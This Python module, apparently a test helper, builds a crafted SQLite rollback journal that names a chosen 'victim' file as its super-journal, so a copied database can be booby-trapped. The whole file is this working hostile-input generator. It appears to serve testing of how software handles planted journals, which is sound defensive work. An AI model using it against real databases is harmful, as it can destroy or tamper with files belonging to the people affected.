"""What may lie beside a store that somebody copied here."""

from __future__ import annotations

import os
import struct
from pathlib import Path
from typing import Final

_MAGIC: Final = bytes.fromhex("d9d505f920a163d7")


def journal_naming(victim: Path, database: Path) -> bytes:
    """A journal without pages that names `victim` as its super-journal (SQLite, pager.c, writeSuperJournal)."""
    data = database.read_bytes()
    (page_bytes,) = struct.unpack(">H", data[16:18])
    header = _MAGIC + struct.pack(">5I", 0, 0, len(data) // page_bytes, 512, page_bytes)
    name = os.fsencode(victim)
    page = struct.pack(">I", 2**30 // page_bytes + 1)
    return header.ljust(512, b"\0") + page + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
